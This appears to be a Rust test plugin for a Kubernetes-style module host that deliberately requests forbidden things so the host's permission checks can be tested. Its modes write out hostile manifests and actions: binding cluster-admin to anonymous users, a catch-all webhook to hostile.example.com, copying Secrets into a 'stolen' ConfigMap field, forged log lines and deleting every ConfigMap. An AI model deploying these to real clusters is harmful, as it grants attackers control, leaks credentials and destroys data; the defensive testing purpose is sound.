//! A module reconciler that asks for more than it should, for the plugin-authority tests.
//! Its configuration `{"mode": ..., "namespace": ..., "name": ...}` picks what it returns;
//! each mode is something the host must refuse unless the operator granted it.

use serde::Deserialize;
use serde_json::{Value, json};
use tessera_sdk::{
    DeleteOutput, ModuleInput, ModuleOutput, ModuleReconciler, PluginError, Selector,
};

#[derive(Debug, Deserialize)]
#[serde(default)]
pub struct Config {
    pub mode: String,
    /// Namespace of the ConfigMap modes.
    pub namespace: String,
    /// Name of the ConfigMap modes.
    pub name: String,
}

impl Default for Config {
    fn default() -> Self {
        Self {
            mode: "configmap".into(),
            namespace: "default".into(),
            name: "hostile".into(),
        }
    }
}

fn configmap(config: &Config) -> Value {
    json!({"apiVersion": "v1", "kind": "ConfigMap",
        "metadata": {"name": config.name, "namespace": config.namespace},
        "data": {"written-by": "hostile-module"}})
}

fn desired(config: &Config) -> Vec<Value> {
    let mut objects = vec![configmap(config)];
    match config.mode.as_str() {
        "cluster-admin" => objects.push(json!({
            "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
            "metadata": {"name": "hostile-anonymous-admin"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
            "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "system:anonymous"}]})),
        "webhook" => objects.push(json!({
            "apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration",
            "metadata": {"name": "hostile-webhook"},
            "webhooks": [{"name": "hostile.example.com", "sideEffects": "None",
                "admissionReviewVersions": ["v1"],
                "clientConfig": {"url": "https://hostile.example.com/validate"},
                "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*"]}]}]})),
        "kube-system-secret" => objects.push(json!({
            "apiVersion": "v1", "kind": "Secret",
            "metadata": {"name": "hostile", "namespace": "kube-system"},
            "stringData": {"token": "planted"}})),
        "priority-class" => objects.push(json!({
            "apiVersion": "scheduling.k8s.io/v1", "kind": "PriorityClass",
            "metadata": {"name": "hostile-critical"}, "value": 1000})),
        _ => {}
    }
    objects
}

/// Every core object of `kind` (in `namespace`, or in all).
fn all(kind: &str, namespace: Option<&str>) -> Selector {
    Selector {
        api_version: "v1".into(),
        kind: kind.into(),
        namespace: namespace.map(Into::into),
        name: None,
        label_selector: None,
    }
}

pub struct HostileModule;

impl ModuleReconciler for HostileModule {
    const NAME: &'static str = "hostile-module";
    const DESCRIPTION: &'static str = "asks for more than it should (test plugin)";
    type Config = Config;

    fn reconcile(input: ModuleInput<Config>) -> Result<ModuleOutput, PluginError> {
        let config = &input.config;
        match config.mode.as_str() {
            "read-secrets" | "read-all-secrets" => {
                let namespace = (config.mode == "read-secrets").then_some("kube-system");
                let secrets = all("Secret", namespace);
                match input.observed(&secrets) {
                    None => Ok(ModuleOutput::require(vec![secrets])),
                    // What it read would leave through its objects.
                    Some(found) => {
                        let mut cm = configmap(config);
                        cm["data"]["stolen"] =
                            json!(serde_json::to_string(found).unwrap_or_default());
                        Ok(ModuleOutput::ready(vec![cm]))
                    }
                }
            }
            "log-newlines" => {
                tessera_sdk::log::warn(
                    "innocent\n2026-11-23T00:00:00.000000Z ERROR tessera: forged line",
                );
                Ok(ModuleOutput::ready(desired(config)))
            }
            // Ambient authority: the same evaluator as shoot extensions refuses it.
            "read-env" => {
                let home = std::env::var("HOME").unwrap_or_default();
                let mut cm = configmap(config);
                cm["data"]["home"] = json!(home);
                Ok(ModuleOutput::ready(vec![cm]))
            }
            "huge-message" => Ok(ModuleOutput::ready(desired(config))
                .with_state(tessera_sdk::ModuleState::Warning, "m".repeat(8 << 20))),
            _ => Ok(ModuleOutput::ready(desired(config))),
        }
    }

    fn delete(input: ModuleInput<Config>) -> Result<DeleteOutput, PluginError> {
        let mut out = DeleteOutput::done();
        if input.config.mode == "remove-all" {
            // Every ConfigMap of the cluster.
            out.remove = vec![all("ConfigMap", None)];
        }
        Ok(out)
    }
}

tessera_sdk::export_module_reconciler!(HostileModule);
tessera_sdk::declare_requests!("requests.yaml");
